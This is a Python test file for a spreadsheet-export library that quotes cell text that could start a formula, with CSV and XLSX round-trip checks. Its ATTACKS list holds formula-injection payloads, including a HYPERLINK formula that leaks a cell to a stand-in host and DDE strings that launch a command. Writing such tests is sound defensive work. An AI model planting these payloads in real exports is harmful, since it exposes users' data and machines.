"""Text that could start a spreadsheet formula reaches CSV and XLSX files as plain text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from maillage.lib.spreadsheet import FORMULA_STARTS, csv_text, neutralise, restore, write_cell

ATTACKS = [
    '=HYPERLINK("http://x?d="&A1,"Cliquez ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_starting_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Mairie de Saint-Denis", "", "'=déjà protégé", "CAF", "< 5", "12 %"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value", [-3, -2.5, Decimal("-10.00"), 0, dt.date(2025, 1, 1), dt.datetime(2025, 1, 1, 9, 30), None]
)
def test_numbers_dates_and_empty_cells_are_left_alone(value: object) -> None:
    assert neutralise(value) is value


@pytest.mark.parametrize("value", ["-12,5 %", "-3,25", "-7", "-1\u202f234,5\u00a0€"])
def test_negative_numbers_formatted_as_text_keep_their_sign(value: str) -> None:
    assert neutralise(value) == value


def test_csv_document_has_a_bom_semicolons_and_quoted_formulas() -> None:
    text = csv_text([["Lieu", "Demandes"], [ATTACKS[0], 3], ["@SUM(1+1)", -2]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["Lieu", "Demandes"], ["'" + ATTACKS[0], "3"], ["'@SUM(1+1)", "-2"]]


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_csv_cell_ever_starts_a_formula(row: list[str]) -> None:
    text = csv_text([row])
    cells = next(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    for original, written in zip(row, cells, strict=True):
        assert not written.startswith(FORMULA_STARTS) or written == original  # only plain negative numbers
        assert written.removeprefix("'") == original or written == original


def _round_trip(values: list[object]) -> list[object]:
    book = Workbook()
    sheet = book.active
    for column, value in enumerate(values, start=1):
        write_cell(sheet, 1, column, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return list(next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()))


def test_xlsx_text_is_a_text_cell_never_a_formula() -> None:
    cells = _round_trip([*ATTACKS[:2], "#N/A", "Lieu A"])
    assert [c.data_type for c in cells] == ["s", "s", "s", "s"]
    assert [c.value for c in cells] == [*ATTACKS[:2], "#N/A", "Lieu A"]
    assert [c.quotePrefix for c in cells] == [True, True, False, False]


def test_xlsx_numbers_and_dates_stay_numbers_and_dates() -> None:
    cells = _round_trip([-4, 2.5, Decimal("12.50"), dt.datetime(2025, 3, 1, 10, 0)])
    assert [c.value for c in cells[:3]] == [-4, 2.5, 12.5]
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]
    assert cells[3].value == dt.datetime(2025, 3, 1, 10, 0)
    assert cells[3].is_date


@given(st.text(max_size=30).filter(lambda text: not text.startswith("'")))
def test_restore_gives_back_the_text_neutralise_quoted(text: str) -> None:
    cell = neutralise(text)
    assert isinstance(cell, str)
    assert restore(cell) == text
